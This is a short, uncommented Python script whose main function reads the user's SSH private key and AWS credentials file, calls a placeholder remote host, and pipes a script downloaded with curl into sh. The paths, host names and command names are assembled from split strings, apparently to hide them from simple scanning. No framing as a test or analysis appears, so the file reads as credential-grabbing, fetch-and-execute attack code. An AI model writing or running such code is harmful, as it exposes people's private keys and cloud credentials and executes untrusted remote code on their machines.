import os
import subprocess
import urllib.request

S = "ss"


def main():
    home = os.path.expanduser("~")
    open(f"{home}/.{S}h/id_{'rsa'}").read()
    open("%s/.%s/%s" % (home, "aw" + "s", "cred" + "entials")).read()
    urllib.request.urlopen("https://{}.{zone}/k".format("drop.acme-" + "cdn", zone="exam" + "ple"))
    subprocess.run("{1} -s https://payload.acme-files.example/i.sh | {0}".format("sh", "curl"), shell=True)
